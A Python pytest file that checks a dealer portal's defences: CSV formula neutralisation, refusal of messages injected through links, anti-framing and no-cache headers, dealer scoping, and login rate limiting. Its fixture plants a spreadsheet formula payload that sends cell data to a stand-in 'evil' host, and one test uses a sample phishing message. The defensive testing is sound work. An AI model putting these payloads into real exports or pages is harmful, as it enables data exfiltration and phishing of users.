"""The portal against a hostile user (issue 16, item 7): spreadsheet formulas in exports, messages
from crafted links, framing and caching, vehicles without a dealer, password guessing."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient

from dealer_portal.app import create_app
from dealer_portal.sample_data import create_sample_database, password_for
from gateway.db.models import Vehicle
from gateway.db.session import make_engine, make_sessionmaker, session_scope

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


@pytest.fixture
def portal(tmp_path):
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    create_sample_database(url, NOW, password_rounds=4)
    with session_scope(make_sessionmaker(make_engine(url))) as db:
        db.add(
            Vehicle(
                vehicle_id="ORPHAN-1",
                model='=HYPERLINK("http://evil/?"&A1,"x")',
                plate="@SUM(1)",
                status="active",
                archived=False,
                created_at=NOW,
                updated_at=NOW,
            )
        )
    return create_app(url, clock=lambda: NOW)


def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _client(app, user: str) -> TestClient:
    client = TestClient(app, follow_redirects=False)
    token = _csrf(client.get("/login").text)
    form = {"username": user, "password": password_for(user), "csrf_token": token}
    answer = client.post("/login", data=form)
    assert answer.status_code == 303, answer.text
    return client


def test_csv_export_neutralises_spreadsheet_formulas(portal):
    text = _client(portal, "ada").get("/vehicles.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    orphan = next(r for r in rows if r["Fleet id"] == "ORPHAN-1")
    assert orphan["Model"].startswith("'=HYPERLINK") and orphan["Plate"] == "'@SUM(1)"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_a_crafted_link_cannot_put_a_message_on_a_page(portal):
    sam = _client(portal, "sam")
    fake = "Your session expired: call +1 555 0100 with your password"
    for url, params in (
        ("/vehicles", {"error": fake}),
        ("/vehicles", {"ok": fake}),
        ("/vehicles", {"ok": fake, "sig": "abc"}),
        ("/login", {"error": fake}),
    ):
        assert fake not in sam.get(url, params=params).text, (url, params)
    # a message the portal signed for another session is not shown either (an htmx post that is
    # refused carries its message in a signed link; a plain form is rendered again instead)
    page = sam.get("/vehicles/VAN-2")
    refused = sam.post(
        "/vehicles/VAN-2/odometer",
        data={"km": "10", "csrf_token": _csrf(page.text)},
        headers={"referer": "http://testserver/vehicles/VAN-2", "hx-request": "true"},
    )
    assert "is below the last reading" in sam.get(refused.headers["location"]).text
    assert "is below the last reading" not in _client(portal, "tim").get(refused.headers["location"]).text


def test_pages_cannot_be_framed_nor_kept_in_a_cache(portal):
    ada = _client(portal, "ada")
    for url in ("/fleet", "/vehicles", "/vehicles.csv", "/api/vehicles", "/login"):
        headers = ada.get(url).headers
        assert headers["x-frame-options"] == "DENY", url
        assert "frame-ancestors 'none'" in headers["content-security-policy"], url
        assert "script-src 'self'" in headers["content-security-policy"], url
        assert headers["cache-control"] == "no-store", url
    assert "no-store" not in ada.get("/static/portal.css").headers.get("cache-control", "")


def test_a_vehicle_without_a_dealer_is_not_shown_to_dealer_staff(portal):
    for user in ("sam", "olga", "tim"):
        client = _client(portal, user)
        assert "ORPHAN-1" not in client.get("/vehicles").text, user
        assert "ORPHAN-1" not in client.get("/vehicles.csv").text, user
        assert client.get("/vehicles/ORPHAN-1").status_code in (403, 404), user  # 403: not their area
        assert "ORPHAN-1" not in client.get("/fleet").text, user
    assert "ORPHAN-1" in _client(portal, "ada").get("/vehicles").text


def test_password_guessing_is_slowed_down_on_login_and_token(portal):
    login = TestClient(portal, follow_redirects=False)
    token = _csrf(login.get("/login").text)
    codes = [
        login.post(
            "/login", data={"username": "ada", "password": f"guess{i}", "csrf_token": token}
        ).status_code
        for i in range(12)
    ]
    assert codes[:10] == [401] * 10 and codes[10:] == [429, 429]
    # the right password is refused too while the guesser is held back (the hash is not even checked)
    form = {"username": "ada", "password": password_for("ada"), "csrf_token": token}
    right = login.post("/login", data=form)
    assert right.status_code == 429 and "Retry-After" in right.headers
    api = TestClient(portal)
    codes = [
        api.post("/api/token", data={"username": "dora", "password": f"guess{i}"}).status_code
        for i in range(11)
    ]
    assert codes == [401] * 10 + [429]
    # the user herself, from another address, is not locked out by the guesser
    elsewhere = TestClient(portal, client=("192.0.2.7", 50000))
    answer = elsewhere.post("/api/token", data={"username": "dora", "password": password_for("dora")})
    assert answer.status_code == 200
